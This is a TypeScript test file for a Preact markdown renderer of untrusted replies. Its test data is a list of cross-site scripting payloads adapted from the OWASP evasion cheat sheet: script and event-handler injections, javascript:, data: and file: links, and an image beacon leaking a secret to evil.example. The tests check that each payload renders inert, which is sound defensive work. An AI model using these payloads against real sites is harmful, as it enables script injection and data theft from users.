import { render } from 'preact';
import { describe, expect, it } from 'vitest';
import { renderMarkdown, safeHref } from './markdown';

function html(src: string): HTMLElement {
  const el = document.createElement('div');
  render(renderMarkdown(src), el);
  return el;
}

const ALLOWED_TAGS = new Set(['P', 'BR', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'A', 'SPAN']);
const ALLOWED_ATTRS = new Set(['href', 'target', 'rel', 'start']);

/** Nothing executable: only the renderer's own tags and attributes, only safe link schemes. */
function expectInert(el: HTMLElement): void {
  for (const node of el.querySelectorAll('*')) {
    expect(ALLOWED_TAGS.has(node.tagName), `unexpected <${node.tagName}>`).toBe(true);
    for (const attr of node.getAttributeNames()) expect(ALLOWED_ATTRS.has(attr), `unexpected ${attr}`).toBe(true);
  }
  for (const a of el.querySelectorAll('a')) {
    expect(['http:', 'https:', 'mailto:']).toContain(new URL(a.href).protocol);
    expect(a.target).toBe('_blank');
    expect(a.rel).toContain('noopener');
    expect(a.rel).toContain('noreferrer');
  }
}

// After the OWASP XSS Filter Evasion Cheat Sheet and LLM05 (improper output handling) examples.
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<div><p onclick="alert(1)">nested <b>tags <i>deep</i></b></p></div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '"><script>alert(document.cookie)</script>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click]( javascript:alert(1) )',
  '[click](javascript&#58;alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '[click](//evil.example)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/beacon.png?secret=1)',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  '**<img src=x onerror=alert(1)>**',
  '`<script>alert(1)</script>`',
  '```\n<script>alert(1)</script>\n```',
  '- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))',
  '<https://ok.example/"onmouseover="alert(1)>',
  'https://ok.example/"><script>alert(1)</script>',
  'javascript:alert(1)',
];

describe('renderMarkdown: untrusted replies', () => {
  it.each(PAYLOADS)('renders %j inert', (payload) => {
    const el = html(payload);
    expectInert(el);
    expect(el.querySelector('script, img, svg, iframe, style, object, input, details, meta')).toBeNull();
  });

  it('shows raw HTML as the literal text', () => {
    const el = html('Hi <img src=x onerror=alert(1)> there');
    expect(el.textContent).toBe('Hi <img src=x onerror=alert(1)> there');
  });

  it('keeps the visible text of a link it refuses', () => {
    const el = html('see [the docs](javascript:alert(1))');
    expect(el.querySelector('a')).toBeNull();
    expect(el.textContent).toBe('see the docs');
  });

  it('turns an image into a link instead of loading it', () => {
    const el = html('![chart](https://example.com/c.png)');
    expect(el.querySelector('img')).toBeNull();
    expect(el.querySelector('a')?.getAttribute('href')).toBe('https://example.com/c.png');
  });
});

describe('renderMarkdown: formatting', () => {
  it('renders bold, italic, strikethrough and inline code', () => {
    const el = html('**bold** *it* _em_ ~~gone~~ `x < y`');
    expect(el.querySelector('strong')?.textContent).toBe('bold');
    expect([...el.querySelectorAll('em')].map((e) => e.textContent)).toEqual(['it', 'em']);
    expect(el.querySelector('del')?.textContent).toBe('gone');
    expect(el.querySelector('code')?.textContent).toBe('x < y');
  });

  it('leaves snake_case names alone', () => {
    expect(html('call my_long_name now').textContent).toBe('call my_long_name now');
    expect(html('call my_long_name now').querySelector('em')).toBeNull();
  });

  it('renders links that open in a new tab without an opener', () => {
    const a = html('[Docs](https://example.com/a_(b)) and https://example.org/x.').querySelectorAll('a');
    expect(a[0].getAttribute('href')).toBe('https://example.com/a_(b)');
    expect(a[0].textContent).toBe('Docs');
    expect(a[0].getAttribute('target')).toBe('_blank');
    expect(a[0].getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(a[1].getAttribute('href')).toBe('https://example.org/x');
  });

  it('accepts mailto links', () => {
    expect(html('[mail](mailto:help@example.com)').querySelector('a')?.getAttribute('href')).toBe(
      'mailto:help@example.com',
    );
  });

  it('renders lists, nested by indentation', () => {
    const el = html('Steps:\n1. one\n2. two\n   - two a\n   - two b\n3. three\n\n- x\n- y');
    expect(el.querySelector('p')?.textContent).toBe('Steps:');
    const ol = el.querySelector('ol')!;
    expect(ol.children).toHaveLength(3);
    expect(ol.querySelector('ul')?.children).toHaveLength(2);
    expect(el.querySelectorAll(':scope > ul > li')).toHaveLength(2);
  });

  it('keeps an ordered list start number', () => {
    expect(html('3. three\n4. four').querySelector('ol')?.getAttribute('start')).toBe('3');
  });

  it('renders fenced code verbatim, even unclosed mid-stream', () => {
    const el = html('```js\nconst a = 1 **not bold**\n```');
    expect(el.querySelector('pre code')?.textContent).toBe('const a = 1 **not bold**');
    expect(html('```\npartial').querySelector('pre code')?.textContent).toBe('partial');
  });

  it('keeps unclosed syntax literal', () => {
    expect(html('**half bold').textContent).toBe('**half bold');
  });

  it('splits paragraphs on blank lines and keeps single line breaks', () => {
    const el = html('a\nb\n\nc');
    expect(el.querySelectorAll('p')).toHaveLength(2);
    expect(el.querySelectorAll('br')).toHaveLength(1);
  });

  it('shows headings as bold paragraphs and honours escapes', () => {
    const el = html('## Title\n\\*not italic\\*');
    expect(el.querySelector('p > strong')?.textContent).toBe('Title');
    expect(el.textContent).toContain('*not italic*');
  });
});

describe('safeHref', () => {
  it('allows only http, https and mailto', () => {
    expect(safeHref('https://a.example/')).toBe('https://a.example/');
    expect(safeHref('http://a.example')).toBe('http://a.example/');
    expect(safeHref('mailto:x@y.z')).toBe('mailto:x@y.z');
    expect(safeHref('java\tscript:alert(1)')).toBeNull();
    expect(safeHref('/relative')).toBeNull();
    expect(safeHref('data:text/html,x')).toBeNull();
  });
});
